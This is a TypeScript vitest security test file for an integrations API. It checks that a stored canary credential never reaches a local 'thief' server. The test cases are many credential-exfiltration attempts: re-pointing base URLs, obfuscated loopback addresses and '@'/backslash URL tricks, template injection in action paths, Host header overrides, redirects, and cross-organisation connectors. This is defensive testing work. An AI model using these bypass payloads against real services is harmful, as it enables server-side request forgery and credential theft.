import { type LocalProvider, startProvider } from '@bindery/connection/testing'
import type { ServerResponse } from 'node:http'
import { text } from 'node:stream/consumers'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { z } from 'zod'
import { idOf, must } from '../testing/clinic-server.ts'
import { type ApiClient, startTestServer, type TestServer } from '../testing/test-server.ts'

/*
 * A credential that belongs at home, and whoever may do everything but write secrets. Nothing of what the thief is sent may
 * hold it, by whatever way.
 */

const canary = 'cnry-led-out-9fQx'

let server: TestServer
let home: LocalProvider
let thief: LocalProvider
let intruder: ApiClient
/** Everything that the thief was sent. */
const stolen: string[] = []
/** What home does with the next request for a path. */
const ways = new Map<string, (response: ServerResponse) => void | Promise<void>>()

beforeAll(async () => {
  server = await startTestServer()
  thief = await startProvider((request, response) => {
    void text(request).then((body) => {
      stolen.push(JSON.stringify([request.method, request.url, request.rawHeaders, body]))
      response
        .writeHead(200, { 'content-type': 'application/json' })
        .end('{"access_token":"t","token_type":"Bearer"}')
    })
  })
  home = await startProvider((request, response) => {
    request.resume().on('end', () => {
      const way = ways.get((request.url ?? '').split('?')[0] ?? '')
      if (way !== undefined) return void way(response)
      response.writeHead(200, { 'content-type': 'application/json' }).end('{"ok":true}')
    })
  })
  const scopes = [
    'integrations:read',
    'integrations:write',
    'skills:read',
    'skills:write',
    'agents:read',
    'agents:write',
    'skills:execute',
  ] as const
  intruder = server.client(await server.keyWith(scopes))
})
afterAll(async () => {
  await server.close()
  for (const provider of [home, thief]) await provider.close()
})
beforeEach(() => {
  stolen.length = 0
  ways.clear()
})

let count = 0
const newName = (what: string): string => `${what}-${(count += 1)}`
const port = (): string => new URL(thief.origin).port

/** An integration of the operator at home, with its own credential. */
async function connected(type = 'custom_api'): Promise<string> {
  const kind = newName('kind')
  const environments = { production: { baseUrl: home.origin } }
  await must(server.api('POST', '/integrations', { body: { kind, name: kind, type, environments } }))
  const credentials = { access_token: canary }
  await must(server.api('POST', `/integrations/${kind}/connect`, { body: { credentials, verify: false } }))
  return kind
}

async function makeConnector(members: object = { access_token: canary }, type = 'bearer'): Promise<string> {
  const allowedOrigins = { production: [home.origin] }
  const body = { name: newName('connector'), type, environments: { production: members }, allowedOrigins }
  return idOf(await must(server.api('POST', '/auth-connectors', { body })))
}

const move = (kind: string, baseUrl: string) =>
  intruder('PATCH', `/integrations/${kind}`, { body: { environments: { production: { baseUrl } } } })
const use = (kind: string) => intruder('POST', `/integrations/${kind}/test`)
const discover = (kind: string) =>
  intruder('POST', `/integrations/${kind}/discover`, { headers: { prefer: 'wait=30' } })
const redirect =
  (status: number, path = '/taken') =>
  (response: ServerResponse) =>
    void response.writeHead(status, { location: `${thief.origin}${path}` }).end()

async function tryAction(kind: string, action: object): Promise<void> {
  const body = { name: newName('action'), description: 'Looks at anything.', method: 'GET', ...action }
  const made = await intruder('POST', `/integrations/${kind}/shared-actions`, { body })
  const { id } = z.object({ id: z.string() }).catch({ id: 'none' }).parse(made.data)
  const test = { params: { to: `//127.0.0.1:${port()}`, host: thief.origin }, environment: 'production' }
  await intruder('POST', `/integrations/${kind}/shared-actions/${id}/test`, { body: test })
}

test.each<readonly [string, () => Promise<unknown>]>([
  [
    're-pointed after it was connected, and back',
    async () => {
      const kind = await connected()
      await move(kind, thief.origin)
      await use(kind)
      await move(kind, home.origin)
      await move(kind, `${thief.origin}/home`)
      await discover(kind)
    },
  ],
  ...[
    'http://home.example@127.0.0.1:{port}',
    'HTTP://127.0.0.1.:{port}',
    'http://0x7f.1:{port}',
    'http://[::ffff:127.0.0.1]:{port}',
  ].map(
    (address) =>
      [
        `re-pointed to ${address}`,
        async () => {
          const kind = await connected()
          await move(kind, address.replace('{port}', port()))
          await use(kind)
        },
      ] as const,
  ),
  [
    're-pointed while it is tried',
    async () => {
      const kind = await connected()
      ways.set('/slow', async (response) => {
        await move(kind, thief.origin)
        response.writeHead(200, { 'content-type': 'application/json' }).end('{}')
      })
      const body = { credentials: { access_token: canary }, testEndpoint: '/slow' }
      await server.api('POST', `/integrations/${kind}/connect`, { body })
      await use(kind)
    },
  ],
  ...[
    '//127.0.0.1:{port}/x',
    '@127.0.0.1:{port}/x',
    '\\\\127.0.0.1:{port}',
    ':{port}/x',
    'http://127.0.0.1:{port}/x',
  ].map(
    (endpoint) =>
      [
        `tried at ${endpoint}`,
        async () => {
          const body = { testEndpoint: endpoint.replace('{port}', port()) }
          await intruder('POST', `/integrations/${await connected()}/test`, { body })
        },
      ] as const,
  ),
  ...['//127.0.0.1:{port}/x', '{{to}}/x', '/{{to}}', '{{host}}'].map(
    (path) =>
      [
        `by an action at ${path}`,
        async () => tryAction(await connected(), { path: path.replace('{port}', port()) }),
      ] as const,
  ),
  [
    'by a header of an action that names a host',
    async () => tryAction(await connected(), { path: '/x', headers: { Host: `127.0.0.1:${port()}` } }),
  ],
  ...[301, 302, 303, 307, 308].map(
    (status) =>
      [
        `by a redirect of ${status}`,
        async () => {
          ways.set('/away', redirect(status))
          const kind = await connected()
          await tryAction(kind, { path: '/away' })
          await tryAction(kind, { path: '/away', method: 'POST' })
          await intruder('POST', `/integrations/${kind}/test`, { body: { testEndpoint: '/away' } })
        },
      ] as const,
  ),
  [
    'with a description that leads away',
    async () => {
      ways.set('/openapi.json', redirect(302))
      const kind = await connected('openapi')
      const source = { url: `${home.origin}/openapi.json` }
      await must(intruder('PATCH', `/integrations/${kind}`, { body: { source } }))
      await discover(kind)
    },
  ],
  [
    'with a description that is elsewhere',
    async () => {
      const kind = await connected('openapi')
      await must(
        intruder('PATCH', `/integrations/${kind}`, { body: { source: { url: `${thief.origin}/a.json` } } }),
      )
      await discover(kind)
    },
  ],
  [
    'by a token endpoint that leads away',
    async () => {
      ways.set('/token', redirect(307))
      const client = {
        client_id: 'a',
        client_secret: canary,
        token_url: `${home.origin}/token`,
      }
      const connectorId = await makeConnector(client, 'oauth2_client_credentials')
      const kind = newName('kind')
      const environments = { production: { baseUrl: home.origin, authConnectorId: connectorId } }
      await intruder('POST', '/integrations', {
        body: { kind, name: kind, type: 'custom_api', environments },
      })
      await intruder('POST', `/integrations/${kind}/connect`)
      await use(kind)
      await intruder('POST', `/integrations/${kind}/disconnect`)
    },
  ],
  [
    'to another integration of the same kind, made anew elsewhere',
    async () => {
      const kind = await connected()
      await must(intruder('DELETE', `/integrations/${kind}`))
      const environments = { production: { baseUrl: thief.origin } }
      await must(
        intruder('POST', '/integrations', { body: { kind, name: kind, type: 'custom_api', environments } }),
      )
      await intruder('POST', `/integrations/${kind}/connect`)
      await use(kind)
    },
  ],
  [
    'by a webhook skill',
    async () => {
      const agentId = idOf(await must(server.api('POST', '/agents', { body: { name: newName('agent') } })))
      const slot = { baseUrl: thief.origin, authConnectorId: await makeConnector() }
      const hook = { name: newName('hook'), description: 'Looks at anything.', method: 'GET', path: '/x' }
      await intruder('POST', `/agents/${agentId}/skills`, {
        body: { ...hook, environments: { production: slot } },
      })
    },
  ],
  [
    'by a connector of another organisation',
    async () => {
      const stranger = server.client(await server.otherOrganization())
      const slot = { baseUrl: thief.origin, authConnectorId: await makeConnector() }
      const body = { kind: 'theirs', name: 'Theirs', type: 'custom_api', environments: { production: slot } }
      await stranger('POST', '/integrations', { body })
      await stranger('POST', '/integrations/theirs/connect')
    },
  ],
  [
    'as the key of a server for MCP',
    async () => {
      const agentId = idOf(await must(server.api('POST', '/agents', { body: { name: newName('agent') } })))
      const at = {
        name: newName('server'),
        server_url: home.origin,
        auth_type: 'bearer',
        auth_config: { access_token: canary },
      }
      ways.set('/', redirect(307))
      await server.api('POST', `/agents/${agentId}/integrations/mcp_server/configure`, { body: at })
      const kind = await connected('mcp_server')
      await discover(kind)
      await use(kind)
    },
  ],
])('a credential is not led out: %s', async (_, attack) => {
  await attack()
  expect(stolen.filter((request) => request.includes(canary))).toEqual([])
})

test('the thief hears what is meant for it, so that its silence says something', async () => {
  const kind = newName('kind')
  const environments = { production: { baseUrl: thief.origin } }
  await must(
    server.api('POST', '/integrations', { body: { kind, name: kind, type: 'custom_api', environments } }),
  )
  const credentials = { access_token: canary }
  await must(server.api('POST', `/integrations/${kind}/connect`, { body: { credentials } }))
  expect(stolen.join('\n')).toContain(canary)
})
